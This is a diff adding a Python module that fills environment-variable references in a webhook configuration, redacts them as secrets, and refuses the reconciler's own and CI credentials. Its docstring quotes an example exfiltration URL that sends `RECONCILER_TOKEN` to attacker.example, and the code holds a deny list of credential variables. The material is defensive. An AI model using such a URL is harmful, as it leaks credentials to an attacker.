@@ -1,0 +1,182 @@
+"""The webhook's `${VAR}` references filled from the environment, as secrets, and checked.
+
+Every value taken from a variable is a secret wherever it lands: a header value whole, the URL
+with the variable's part shown as `(sensitive value)`, and the variable's own value registered
+with the redaction (a service that echoes the bare value must not print it). The reconciler's
+own credentials and the CI's variables are never filled in: a pull request that writes
+`url: https://attacker.example/?t=${RECONCILER_TOKEN}` is an error at its line, before any
+request. What the service would refuse (an empty header value, which is what CI passes for a
+missing secret, a line break, a value or URL over its limit) is said here, after filling,
+rather than by an apply that has already changed workers.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterable, Iterator, Mapping
+from dataclasses import dataclass
+from typing import Any
+
+from reconciler import logs
+from reconciler.desired.interpolate import InterpolationError, interpolate, references
+from reconciler.desired.model import WebhookHeader
+from reconciler.desired.problems import PathProblem, YamlPath
+from reconciler.desired.rules import FileValues, webhook_url_problem
+from reconciler.secrets import Secret, webhook_url
+
+#: Variables that are never interpolated: the reconciler's own settings and the CI's.
+DENIED_PREFIXES = ("RECONCILER_", "GITHUB_", "ACTIONS_", "RUNNER_")
+#: Variables that hold a credential of the reconciler itself, whatever the file names.
+CREDENTIAL_VARIABLES = ("RECONCILER_TOKEN", "RECONCILER_PASSWORD", "RECONCILER_PLAN_KEY")
+#: The service's limits (service-contract.md, and the sandbox's "where the contract leaves room").
+MAX_URL = 2048
+MAX_HEADER_VALUE = 1024
+
+
+@dataclass(frozen=True, slots=True)
+class FilledWebhook:
+    """The webhook's url and headers with their `${VAR}` references filled."""
+
+    name: str
+    url: str | Secret
+    headers: tuple[WebhookHeader, ...]
+
+
+class EveryName(Mapping[str, str]):
+    """An environment that has every variable, empty: references are checked by name only."""
+
+    def __getitem__(self, name: str) -> str:
+        return ""
+
+    def __contains__(self, name: object) -> bool:
+        return True
+
+    def __iter__(self) -> Iterator[str]:
+        return iter(())
+
+    def __len__(self) -> int:
+        return 0
+
+
+def fill_webhook(
+    files: list[FileValues], environ: Mapping[str, str], credentials: Iterable[str] = ()
+) -> tuple[FilledWebhook | None, list[tuple[str, PathProblem]]]:
+    """The filled webhook of the one file that gives it, or the problems filling it.
+
+    `credentials` are values no variable may hold (the token read from `--token-file`, say),
+    beside those of `CREDENTIAL_VARIABLES`.
+    """
+    for values in files:
+        webhook = values.data.get("webhook")
+        if isinstance(webhook, dict):
+            return _Filler(values.name, environ, credentials).webhook(webhook)
+    return None, []
+
+
+class _Filler:
+    def __init__(self, name: str, environ: Mapping[str, str], credentials: Iterable[str]) -> None:
+        self.name = name
+        self.environ = environ
+        self.names_only = isinstance(environ, EveryName)
+        self.forbidden = {value for value in credentials if value}
+        if not self.names_only:
+            self.forbidden.update(environ[n] for n in CREDENTIAL_VARIABLES if environ.get(n))
+        self.problems: list[tuple[str, PathProblem]] = []
+
+    def fail(self, path: YamlPath, message: str) -> None:
+        self.problems.append((self.name, PathProblem(path, message)))
+
+    def webhook(
+        self, webhook: dict[str, Any]
+    ) -> tuple[FilledWebhook | None, list[tuple[str, PathProblem]]]:
+        url = self.url(webhook.get("url"))
+        headers = []
+        raw_headers = webhook.get("headers")
+        for index, header in enumerate(raw_headers if isinstance(raw_headers, list) else []):
+            if isinstance(header, dict) and isinstance(header.get("name"), str):
+                value = self.header_value(header.get("value"), index)
+                if value is not None:
+                    headers.append(WebhookHeader(header["name"], value))
+        if self.problems or url is None:
+            return None, self.problems
+        return FilledWebhook(self.name, url, tuple(headers)), []
+
+    def fill(self, text: str, path: YamlPath) -> str | None:
+        """`text` filled, or None (and a problem) when a reference cannot or must not be."""
+        refused = False
+        for variable in references(text):
+            if reason := self.refusal(variable):
+                self.fail(path, reason)
+                refused = True
+        if refused:
+            return None
+        try:
+            filled = interpolate(text, self.environ)
+        except InterpolationError as error:
+            self.fail(path, str(error))
+            return None
+        if not self.names_only:
+            for variable in references(text):
+                logs.register_secret(self.environ[variable])  # the bare value, too
+        return filled
+
+    def refusal(self, variable: str) -> str | None:
+        if variable.startswith(DENIED_PREFIXES):
+            return (
+                f"${{{variable}}} cannot be used: the reconciler's own settings and the CI's "
+                f"variables ({', '.join(p + '*' for p in DENIED_PREFIXES)}) are never put "
+                "into the webhook"
+            )
+        if not self.names_only and self.environ.get(variable) in self.forbidden:
+            return (
+                f"${{{variable}}} holds one of the reconciler's own credentials (its token, "
+                "password or plan key), which are never put into the webhook"
+            )
+        return None
+
+    def url(self, raw: object) -> str | Secret | None:
+        if not isinstance(raw, str):
+            return None
+        path = ("webhook", "url")
+        filled = self.fill(raw, path)
+        if filled is None:
+            return None
+        if self.names_only and references(raw):
+            return raw  # checked by name only; the model keeps the template
+        url = webhook_url(Secret(filled, template=raw)) if references(raw) else filled
+        if len(filled) > MAX_URL:
+            self.fail(path, f"is {len(filled)} characters once filled in; at most {MAX_URL}")
+        elif reason := webhook_url_problem(filled, shown=str(url)):
+            self.fail(path, reason)
+        return url
+
+    def header_value(self, raw: object, index: int) -> Secret | None:
+        if not isinstance(raw, str):
+            return None
+        path: YamlPath = ("webhook", "headers", index, "value")
+        filled = self.fill(raw, path)
+        if filled is None:
+            return None
+        template = raw if references(raw) else None
+        if self.names_only:
+            return Secret(raw, template=template)
+        if reason := _header_value_problem(filled, from_variable=template is not None):
+            self.fail(path, reason)
+            return None
+        logs.register_secret(filled)  # from here on, no log line can carry it
+        return Secret(filled, template=template)
+
+
+def _header_value_problem(value: str, *, from_variable: bool) -> str | None:
+    """Why the service would refuse this header value (never showing it), or None."""
+    if not value.strip():
+        if from_variable:
+            return (
+                "is empty once filled in (a CI secret that does not exist is passed as an "
+                "empty value); the service refuses a blank header value"
+            )
+        return "must not be blank"
+    if any(char in value for char in "\r\n\0"):
+        return "must not contain a line break or a NUL character (once filled in)"
+    if len(value) > MAX_HEADER_VALUE:
+        return f"is {len(value)} characters once filled in; the service takes {MAX_HEADER_VALUE}"
+    return None
